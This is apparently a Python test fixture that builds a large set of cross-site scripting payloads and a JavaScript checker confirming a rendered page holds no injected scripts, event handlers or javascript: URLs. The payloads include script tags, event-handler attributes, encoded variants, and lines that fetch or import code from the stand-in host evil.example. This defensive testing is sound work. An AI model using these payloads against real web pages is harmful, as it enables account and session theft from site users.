"""What strangers write to run code in somebody else's page: each is to be shown as the text it is."""

CALLS = ("alert(1)", "window.pwned=1", "fetch('//evil.example')", "import('//evil.example/x.js')")
TAGS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js>{}</SCRIPT>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    '"><img src=x onerror="{}">',
    "'><svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    '<a href="java\tscript:{}">x</a>',
    "<form action=javascript:{}><button>x</button></form>",
    "<button formaction=javascript:{}>x</button>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<select autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<audio src=x onerror={}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<math href=javascript:{}>x</math>",
    "<style>@import '//evil.example/x.css'</style>{}",
    "<link rel=stylesheet href=//evil.example/x.css>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.example/>{}",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<table background=javascript:{}>",
    "<marquee onstart={}>",
    "<x onclick={} tabindex=1 autofocus onfocus={}>",
    "{{{{ {} }}}}",
    "{{% import os %}}{}",
    "${{{}}}",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</time><img src=x onerror={}>",
    '"autofocus onfocus={} x="',
    "' autofocus onfocus={} x='",
    "` onmouseover={} `",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\u003cscript\u003e{}\u003c/script\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
    "\u202e<img src=x onerror={}>",
)
VECTORS = tuple(tag.format(*([call] * tag.count("{}"))) for tag in TAGS for call in CALLS)
CLEAN = """(within) => {
  const wrong = [];
  if (window.pwned) wrong.push("pwned");
  if (document.scripts.length !== 1) wrong.push("scripts: " + document.scripts.length);
  for (const each of document.querySelectorAll(within ?? "*")) {
    if (["IFRAME", "OBJECT", "EMBED", "BASE", "IMG", "VIDEO", "AUDIO", "STYLE", "TEMPLATE"].includes(each.tagName))
      wrong.push(each.outerHTML.slice(0, 100));
    for (const { name, value } of each.attributes)
      if (name.startsWith("on") || name === "style" || /^\\s*(javascript|data:text)/i.test(value) && ["href", "src", "action", "formaction"].includes(name))
        wrong.push(name + "=" + value);
  }
  return wrong;
}"""
"""What a page has that no template of ours has put there."""
